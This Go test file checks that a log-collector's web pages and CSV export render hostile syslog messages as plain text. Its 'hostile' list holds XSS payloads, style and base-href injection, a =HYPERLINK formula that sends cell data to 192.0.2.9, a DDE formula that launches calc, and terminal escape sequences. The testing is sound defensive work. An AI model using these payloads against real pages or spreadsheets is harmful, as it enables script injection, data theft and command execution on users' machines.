package engine

import (
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// hostile are messages that try to be more than text.
var hostile = []string{
	`<131>host app: <img src=x onerror=document.title="owned"><script>document.title="owned"</script>`,
	`<131>host app: <svg onload=document.title="owned"><iframe srcdoc="<script>parent.document.title='owned'</script>">`,
	`<131>host app: </span></div><style>*{display:none}</style><base href=//192.0.2.9/><link rel=stylesheet href=//192.0.2.9/x>`,
	`<131>host app: {@html "<b>x</b>"} {{constructor.constructor('document.title="owned"')()}} ${document.title="owned"} javascript:alert(1)`,
	`<131>host =cmd|'/C calc'!A0: @SUM(1+9)*cmd`, `<131>host app: =HYPERLINK("http://192.0.2.9/?"&A1,"x")`, "<131>host app: \t=1+1", "<131>-2+3+cmd app: +1+1", "<131>host app: \r\n=1+1\n@x\n-x",
	"<131>host app: \x1b]0;owned\x07\x1b[2J\x9b31m \u202etxt.exe\u2066 \u200b\ufeff \x00 \xff\xfe",
	`<131>"><img src=x onerror=document.title="owned"> "><b>app</b>: name and app`,
	"<131>host app: " + strings.Repeat("<b>ü", 12_000),
}

// Whatever arrives is text: never a part of the page, never a formula of a
// spreadsheet. The messages of other projects are sent too, where they are.
func TestHostileMessagesInABrowser(t *testing.T) {
	s := start(t, testConfig(t, "[[device]]\naddress = '127.0.0.3'\nname = '=<b onclick=x>@OLT</b>'\nsite = '<i>+1'\n"))
	b := browse(t, s)
	all := hostile
	t.Run("with samples", func(t *testing.T) {
		for _, raw := range samples(t) {
			all = append(all, string(raw))
		}
		text, err := os.ReadFile(filepath.Join(corpus(t), "datagrams.jsonl"))
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.SplitSeq(strings.TrimSpace(string(text)), "\n") {
			var one struct {
				Raw []byte `json:"raw_b64"`
			}
			if err := json.Unmarshal([]byte(line), &one); err != nil {
				t.Fatal(err)
			}
			if len(one.Raw) > 0 {
				all = append(all, string(one.Raw))
			}
		}
	})
	c, err := net.Dial("udp", s.e.Listeners()[0].Address)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for i, text := range all {
		if _, err := io.WriteString(c, text); err != nil {
			t.Fatal(err)
		}
		if i%50 == 49 {
			s.awaitStored(int64(i + 1)) // the smallest socket buffer holds so many
		}
	}
	s.send(0, "127.0.0.3", hostile[0])
	s.send(0, "127.0.0.3", "<0>kernel panic: "+hostile[0])
	s.awaitStored(int64(len(all)) + 2)

	const markup = `document.querySelectorAll("[role=grid] :is(img, script, iframe, style, link, base, object, embed, b, a), aside :is(img, script, iframe, style, link, base), main img, iframe, object, embed, [onerror], [onload], [onclick]").length`
	b.run("all of them", chromedp.EmulateViewport(1280, 900), chromedp.Navigate(b.base+"/messages?from=today"), await(fmt.Sprintf(`document.querySelectorAll("[role=row][id]").length >= %d`, min(20, len(all)))))
	var found struct {
		Markup, Rows int
		Title        string
	}
	b.run("from the newest to the oldest", chromedp.Evaluate(`(async () => {
		const list = document.querySelector(".list"), seen = new Set();
		let markup = 0;
		for (let still = 0; still < 20; ) {
			const before = list.scrollTop + ":" + list.scrollHeight;
			markup += `+markup+`;
			for (const r of document.querySelectorAll("[role=row][id]")) seen.add(r.id);
			list.scrollTop -= 400;
			await new Promise((done) => setTimeout(done, 30));
			still = before === list.scrollTop + ":" + list.scrollHeight ? still + 1 : 0;
		}
		return { markup, rows: seen.size, title: document.title };
	})()`, &found, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }))
	if found.Markup != 0 || strings.Contains(found.Title, "owned") || found.Rows < len(all) {
		t.Errorf("%d of %d messages were seen, %d elements of theirs, title %q", found.Rows, len(all), found.Markup, found.Title)
	}
	b.quiet("the list")

	for _, page := range []string{"/", "/messages?q=onerror", "/messages?q=device:127.0.0.3", "/devices", "/devices/127.0.0.3", "/incidents", "/incidents/1", "/rules?q=" + "%3Cimg+src%3Dx+onerror%3Ddocument.title%3D%22owned%22%3E", "/health", "/settings", "/log"} {
		var elements int
		var title string
		b.run(page, chromedp.Navigate(b.base+page), await(`document.querySelector("h1")`), await(`!/Looking…|Loading…/.test(document.body.innerText)`), chromedp.Evaluate(markup, &elements), chromedp.Title(&title))
		if elements != 0 || strings.Contains(title, "owned") {
			t.Errorf("%s has %d elements of messages, title %q", page, elements, title)
		}
	}
	b.run("details of each of ours", chromedp.Navigate(b.base+"/messages?q=owned"), await(`document.querySelector("[role=row]")`), chromedp.Click("[role=row].error"), await(says("As it came")), await(`document.querySelector("aside").innerText.includes("onerror")`), await(markup+" === 0"))
	b.quiet("pages")

	var text string
	b.run("export", chromedp.Evaluate(`fetch("/api/v1/export?format=csv&from=today").then((r) => r.blob()).then((b) => new Promise((done) => { const f = new FileReader(); f.onload = () => done(f.result.split(",")[1]); f.readAsDataURL(b); }))`, &text, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }))
	file, err := base64.StdEncoding.DecodeString(text)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(string(file))).ReadAll()
	if err != nil || len(records) != len(all)+3 {
		t.Fatalf("%d records, want %d: %v", len(records), len(all)+3, err)
	}
	for _, r := range records[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("the %s of message %s is a formula: %.60q", records[0][i], r[0], cell)
			}
		}
	}
}
